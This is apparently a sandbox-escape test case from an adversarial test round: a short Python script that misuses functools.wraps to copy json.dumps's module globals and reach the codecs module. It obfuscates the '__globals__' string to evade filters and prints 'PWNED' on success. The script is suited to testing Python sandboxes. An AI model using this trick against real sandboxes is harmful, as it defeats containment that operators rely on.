# adversary round 2: 019_wraps_variant
import functools, json
d = {}
class W:
    def __getattr__(s, n): return d
functools.wraps(json.dumps, (), ("__glo" + "bals__",))(W())
print(sorted(d)[:12])
m = d.get("codecs")
print(repr(m))
print("PWN" + "ED" if m is not None and type(m).__name__ == "module" else "no")
